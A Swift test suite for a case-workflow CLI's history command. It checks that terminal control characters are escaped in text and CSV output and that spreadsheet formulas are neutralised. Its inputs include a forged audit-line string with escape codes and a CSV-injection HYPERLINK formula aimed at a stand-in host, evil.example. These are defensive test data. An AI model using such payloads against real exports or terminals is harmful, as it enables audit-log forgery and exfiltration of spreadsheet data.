import CaseflowEngine
import CaseflowModel
import CaseflowStore
import CaseflowTestSupport
import Foundation
import Testing

/// A reason that carries terminal control characters cannot forge a line in an auditor's
/// terminal: `caseflow history` writes them as escapes, in text and in CSV.
@Suite struct HistoryControlCharacterTests {
    @Test func aReasonCannotDrawAForgedLine() async throws {
        let dir = try Scratch.folder("caseflow-history-escape")
        let db = dir.appendingPathComponent("cases.sqlite").path
        let engine = SalesCasesFixture.engine
        let start = SalesCasesFixture.start
        let opened = try engine.open(caseID: "h-1", workflow: "service-sales", data: [("customer", "Acme")], by: "alice", at: start).get()
        let forged = "dup\r2026-03-02 09:00:00 +08:00  dana (sales_director)  gate_passed\u{1B}[8m\u{202E}"
        let cancelled = try engine.handle(.cancel(reason: forged), on: opened.state, by: "alice", at: start + Int64(60_000)).get()
        let store = try SQLiteStore(path: db)
        try await store.commit(CaseWrite(caseID: "h-1", expectedVersion: 0, events: opened.events + cancelled.events,
                                         snapshot: try StoredCase(state: cancelled.state, engine: engine, updatedAt: start)))

        let text = try CLIProcess.run(["history", "h-1", "--db", db])
        #expect(text.status == 0, "\(text.stderr)")
        #expect(!text.stdout.unicodeScalars.contains { $0 == "\r" || $0 == "\u{1B}" || $0 == "\u{202E}" })
        #expect(text.stdout.contains(#"case_cancelled  dup\r2026-03-02 09:00:00 +08:00  dana (sales_director)  gate_passed\u{1B}[8m\u{202E}"#),
                "\(text.stdout)")
        #expect(text.stdout.split(separator: "\n").filter { $0.contains("gate_passed") }.count == 1, "one line, the cancel's")

        let csv = try CLIProcess.run(["history", "h-1", "--db", db, "--format", "csv"])
        #expect(csv.status == 0)
        #expect(!csv.stdout.unicodeScalars.contains { $0 == "\r" || $0 == "\u{1B}" || $0 == "\u{202E}" })
        #expect(csv.stdout.contains(#"dup\r2026-03-02"#))

        // The stored event keeps the reason exactly as given: only its display is escaped.
        let json = try CLIProcess.run(["history", "h-1", "--db", db, "--format", "json"])
        #expect(json.stdout.contains(#"dup\r2026-03-02"#) && json.stdout.contains(#"\u001b[8m"#), "\(json.stdout.suffix(600))")
    }

    /// A cancel reason written as a spreadsheet formula reached the CSV as one: the cell now
    /// starts with `'`, so a spreadsheet shows it as text.
    @Test func aFormulaInCaseDataIsTextInCSV() async throws {
        let dir = try Scratch.folder("caseflow-history-formula")
        let db = dir.appendingPathComponent("cases.sqlite").path
        let engine = SalesCasesFixture.engine
        let start = SalesCasesFixture.start
        let opened = try engine.open(caseID: "h-2", workflow: "service-sales", data: [("customer", "@SUM(1+1)")], by: "alice", at: start).get()
        let formula = #"=HYPERLINK("http://evil.example/"&A1,"x")"#
        let cancelled = try engine.handle(.cancel(reason: formula), on: opened.state, by: "alice", at: start + Int64(60_000)).get()
        let store = try SQLiteStore(path: db)
        try await store.commit(CaseWrite(caseID: "h-2", expectedVersion: 0, events: opened.events + cancelled.events,
                                         snapshot: try StoredCase(state: cancelled.state, engine: engine, updatedAt: start)))
        let csv = try CLIProcess.run(["history", "h-2", "--db", db, "--format", "csv"])
        #expect(csv.status == 0, "\(csv.stderr)")
        let rows = csv.stdout.split(separator: "\n").map(String.init)
        let cancel = try #require(rows.first { $0.contains("case_cancelled") })
        #expect(cancel.contains(#","'=HYPERLINK(""http://evil.example/""&A1,""x"")","#), "\(cancel)")
        #expect(!rows.contains { $0.contains(#",=HYPERLINK"#) || $0.contains(#","=HYPERLINK"#) })
        // The stored reason is as given.
        let json = try CLIProcess.run(["history", "h-2", "--db", db, "--format", "json"])
        #expect(json.stdout.contains(#""reason":"=HYPERLINK(\"http://evil.example/\"&A1,\"x\")""#), "\(json.stdout.suffix(400))")
    }
}
